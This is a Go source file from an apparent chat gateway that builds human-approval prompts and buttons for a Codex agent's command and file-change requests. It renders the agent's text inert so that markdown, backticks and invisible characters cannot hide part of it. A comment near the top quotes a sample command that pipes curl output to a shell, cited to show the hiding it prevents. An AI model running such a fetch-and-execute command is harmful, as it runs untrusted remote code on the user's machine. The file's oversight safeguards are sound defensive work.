package approvals

import (
	"fmt"
	"strings"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/gatewayd/gatewayd/gateway/chat"
	"github.com/gatewayd/gatewayd/gateway/ext"
	"github.com/gatewayd/gatewayd/runtime/codex"
)

// What an approval question shows. Everything in it that Codex
// or the agent chose (the command, paths, the reason) sits in one fenced
// code block, made inert first: no platform renders markdown, mentions or
// HTML inside a code block (Telegram's renderer escapes it into <pre>),
// and nothing in the text can close the block early, so `echo ok ||curl
// x|sh||` shows whole instead of hiding its tail as a Discord spoiler.

// zeroWidthSpace separates backticks in a code block, so no run of them
// can close it (Discord closes a block at any ```, wherever it stands).
const zeroWidthSpace = "\u200b"

// approvalQuestion is the lane's question about a pending request.
func approvalQuestion(info chat.PendingApproval, timeout time.Duration) string {
	var b strings.Builder
	b.WriteString(approvalHeadline(info))
	if info.Escalation != "" {
		fmt.Fprintf(&b, "⚠️ It would %s. Only an admin can allow it, and only once.\n", info.Escalation)
	}
	if info.Requester == ext.RequesterUnknown {
		b.WriteString("Who asked for this turn is not known: only an admin decides.\n")
	}
	b.WriteString(approvalDetails(info))
	b.WriteByte('\n')
	if info.Escalation != "" {
		fmt.Fprintf(&b, "Reply /approve %[1]s to allow it once, or /deny %[1]s. Without an answer it is declined in %[2]s.",
			info.ID, timeout)
		return b.String()
	}
	fmt.Fprintf(&b, "Reply /approve %[1]s to allow it once, /approve %[1]s session to allow it for this thread, "+
		"or /deny %[1]s. Without an answer it is declined in %[2]s.", info.ID, timeout)
	return b.String()
}

func approvalHeadline(info chat.PendingApproval) string {
	if info.Kind == "command" {
		return fmt.Sprintf("Codex asks to run a command (approval %s):\n", info.ID)
	}
	return fmt.Sprintf("Codex asks to change files (approval %s):\n", info.ID)
}

// escalationDeclined tells the lane what was declined without asking,
// and why.
func escalationDeclined(info chat.PendingApproval) string {
	what := "run a command"
	if info.Kind != "command" {
		what = "change files"
	}
	return fmt.Sprintf("Codex asked to %s that would %s; declined, because codex.allow_escalation is off:\n%s",
		what, info.Escalation, approvalDetails(info))
}

// approvalDetails is the request's own words, labelled, in one inert
// code block.
func approvalDetails(info chat.PendingApproval) string {
	var lines []string
	add := func(label, value string) {
		if value != "" {
			lines = append(lines, label+value)
		}
	}
	add("command: ", info.Command)
	for _, f := range info.Files {
		add("file:    ", f)
	}
	if info.Kind == "fileChange" && len(info.Files) == 0 {
		lines = append(lines, "file:    (codex named none)")
	}
	add("grant:   writes under ", info.GrantRoot)
	add("network: ", info.Network)
	add("in:      ", info.Cwd)
	add("reason:  ", info.Reason)
	return codeBlock(strings.Join(lines, "\n"))
}

// codeBlock fences text, made inert.
func codeBlock(text string) string {
	return "```\n" + inert(text) + "\n```"
}

// inert is text that cannot leave a code block or hide in one: backticks
// are kept apart, and control and invisible formatting characters (bidi
// overrides, zero-width characters, line separators) are shown as
// \u{…} escapes instead of reordering or hiding what is shown.
func inert(text string) string {
	var b strings.Builder
	tick := false
	for _, r := range text {
		switch {
		case r == '`':
			if tick {
				b.WriteString(zeroWidthSpace)
			}
			b.WriteRune(r)
			tick = true
			continue
		case r == '\n' || r == '\t':
			b.WriteRune(r)
		case r == utf8.RuneError || unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp):
			fmt.Fprintf(&b, `\u{%04x}`, r)
		default:
			b.WriteRune(r)
		}
		tick = false
	}
	return b.String()
}

// approvalButtons are the request's buttons; one that widens the
// boundary has no "for this thread".
func approvalButtons(info chat.PendingApproval) []chat.Button {
	button := func(d codex.Decision, label string) chat.Button {
		return chat.Button{ID: callbackPrefix + info.ID + ":" + string(d), Label: label}
	}
	out := []chat.Button{button(codex.DecisionAccept, "Approve")}
	if info.Escalation == "" {
		out = append(out, button(codex.DecisionAcceptForSession, "Approve for this thread"))
	}
	return append(out, button(codex.DecisionDecline, "Decline"), button(codex.DecisionCancel, "Cancel"))
}
